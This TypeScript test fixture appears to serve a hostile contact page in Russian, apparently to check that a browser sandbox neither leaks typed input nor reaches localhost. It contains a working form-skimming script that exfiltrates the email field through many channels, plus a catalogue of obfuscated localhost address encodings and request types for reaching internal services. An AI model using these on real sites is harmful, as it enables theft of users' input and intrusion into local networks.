import { createSocket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import { listenAnywhere } from '../../city/listen.ts';

/** Everything that reached the server of a hostile page. */
export type Leaks = { hits: string[]; sockets: number };

const form = `<form action="/take" method="post" id="f"><h2>Напишите нам</h2>
<label>Имя <input name="name" required></label><label>E-mail <input name="email" type="email" required></label>
<label>Сообщение <textarea name="message" required></textarea></label><button>Отправить</button></form>`;

/** Sends what is typed by every road a page has, at every key and before the form is sent. */
const spy = `
const value = () => document.querySelector('[name=email]').value;
const b64 = (text) => btoa(unescape(encodeURIComponent(text)));
const zipped = async (text) => new Response(new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer();
const socket = new WebSocket('ws://' + location.host + '/socket');
document.getElementById('f').addEventListener('change', async () => {
  const mail = value(); if (mail === '') return;
  navigator.sendBeacon('/leak/beacon', mail);
  fetch('/leak/fetch', { method: 'POST', body: JSON.stringify({ mail }) }).catch(() => {});
  fetch('/leak/query?m=' + encodeURIComponent(mail)).catch(() => {});
  fetch('/leak/base64', { method: 'POST', body: b64('lead ' + mail + ' end of it') }).catch(() => {});
  fetch('/leak/gzip', { method: 'POST', body: await zipped('lead ' + mail) }).catch(() => {});
  new Image().src = '/leak/image?m=' + encodeURIComponent(mail);
  if (socket.readyState === 1) socket.send('lead ' + mail);
  new WebSocket('ws://' + location.host + '/socket?m=' + encodeURIComponent(mail));
});`;

/** Roads to this machine that a page may try. */
const rays = (port: number): string => `
<img src="http://127.0.0.1:${port}/img"><img src="http://2130706433:${port}/decimal"><img src="http://[::ffff:127.0.0.1]:${port}/mapped">
<img src="http://0177.0.0.1:${port}/octal"><img src="http://0x7f000001:${port}/hex"><img src="http://127.1:${port}/short"><img src="http://0.0.0.0:${port}/any">
<img src="http://[::1]:${port}/six"><img src="http://[::ffff:7f00:1]:${port}/mapped-hex"><link rel="preconnect" href="http://127.0.0.1:${port}"><link rel="prefetch" href="http://127.0.0.1:${port}/prefetch">
<img src="http://localhost:${port}/name"><iframe src="http://127.0.0.1:${port}/frame"></iframe><img src="/away">
<script>const at = '127.0.0.1:${port}';
fetch('http://' + at + '/fetch', { mode: 'no-cors' }).catch(() => {}); navigator.sendBeacon('http://' + at + '/beacon', 'x');
try { new WebSocket('ws://' + at + '/socket'); } catch {}
try { new EventSource('http://' + at + '/events'); } catch {}
try { new SharedWorker('http://' + at + '/shared'); } catch {}
try { const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + at }] }); call.createDataChannel('x'); call.createOffer().then((offer) => call.setLocalDescription(offer)); } catch {}</script>`;

/** A studio's site that spies on whoever writes, and points the browser at the canary on `canaryPort`. */
export async function openLeakySite(canaryPort: number): Promise<{ server: Server; port: number; leaks: Leaks }> {
  const leaks: Leaks = { hits: [], sockets: 0 };
  const server = createServer((request, response) => {
    const path = request.url ?? '/';
    if (path.startsWith('/leak/') || path === '/take') leaks.hits.push(path.replace(/\?.*/, ''));
    if (path === '/away')
      return void response.writeHead(302, { location: `http://127.0.0.1:${canaryPort}/redirect` }).end();
    response.writeHead(path === '/robots.txt' ? 404 : 200, { 'content-type': 'text/html; charset=utf-8' });
    const thanks = '<h1>Спасибо! Ваше сообщение отправлено.</h1>';
    response.end(
      path === '/take' ? thanks : `<title>Контакты</title>${form}${rays(canaryPort)}<script>${spy}</script>`,
    );
  });
  server.on('upgrade', (request, socket) => {
    socket.on('data', () => {
      leaks.sockets += 1;
    });
    if ((request.url ?? '').includes('?m=')) leaks.sockets += 1;
    socket.on('error', () => {});
    setTimeout(() => socket.destroy(), 3_000).unref();
  });
  return { server, port: await listenAnywhere(server), leaks };
}

/** Nobody may come here, by TCP or by UDP. */
export async function openCanary(): Promise<{ server: Server; port: number; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.end('canary');
  });
  server.on('upgrade', (request, socket) => {
    hits.push(request.url ?? '');
    socket.destroy();
  });
  const port = await listenAnywhere(server);
  const packets = createSocket('udp4')
    .on('message', () => hits.push('packet'))
    .unref();
  packets.bind(port, '127.0.0.1');
  return { server, port, hits };
}
